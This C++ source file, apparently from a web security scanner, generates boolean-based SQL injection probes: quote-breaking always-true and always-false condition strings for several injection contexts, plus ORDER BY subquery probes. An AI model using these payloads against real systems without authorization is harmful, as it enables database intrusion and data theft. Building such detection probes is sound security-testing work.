#include "run/sql_conditions.h"

#include <fmt/format.h>

#include <algorithm>

namespace bodkin::run {
namespace {

constexpr std::string_view kShortAbsent = "zq7";
constexpr std::string_view kShortMark = "q7";

// LIKE, not =: between wildcards a condition ends in one ('q7' LIKE 'q7%'), and compares alike
// where there are none.
SqlConditions of_form(std::size_t form, std::string_view absent, std::string_view mark) {
  switch (form % kSqlForms) {
    case 0:
      return {std::string(absent), fmt::format("{}' OR '{}' LIKE '{}", absent, mark, mark),
              fmt::format("{}' AND '{}' LIKE '{}x", absent, mark, mark)};
    case 1:
      return {std::string(absent), fmt::format("{}') OR ('{}' LIKE '{}", absent, mark, mark),
              fmt::format("{}') AND ('{}' LIKE '{}x", absent, mark, mark)};
    default:
      return {"-7", "-7 OR 48213=48213", "-7 AND 48213=48214"};
  }
}

bool fits(const SqlConditions& made, std::uint64_t length_max) {
  return std::max({made.base.size(), made.always.size(), made.never.size()}) <= length_max;
}

}  // namespace

std::optional<SqlConditions> sql_conditions(std::size_t form, std::string_view absent,
                                            std::string_view canary, std::uint64_t length_max) {
  for (const SqlConditions& made :
       {of_form(form, absent, canary), of_form(form, kShortAbsent, canary),
        of_form(form, kShortAbsent, kShortMark)}) {
    if (fits(made, length_max)) return made;
  }
  return std::nullopt;
}

SqlConditions sql_conditions_on(std::size_t form, std::string_view present) {
  switch (form % kSqlForms) {
    case 0:
      return {std::string(present), fmt::format("{}' AND 'q7'='q7", present),
              fmt::format("{}' AND 'q7'='q8", present)};
    case 1:
      return {std::string(present), fmt::format("{}') AND ('q7'='q7", present),
              fmt::format("{}') AND ('q7'='q8", present)};
    default:
      return {std::string(present), fmt::format("{} AND 48213=48213", present),
              fmt::format("{} AND 48213=48214", present)};
  }
}

SqlConditions sql_orders(std::string_view known) {
  return {std::string(known), fmt::format("{}, (SELECT 48213)", known),
          fmt::format("{}, (SELECT 48213", known)};
}

}  // namespace bodkin::run
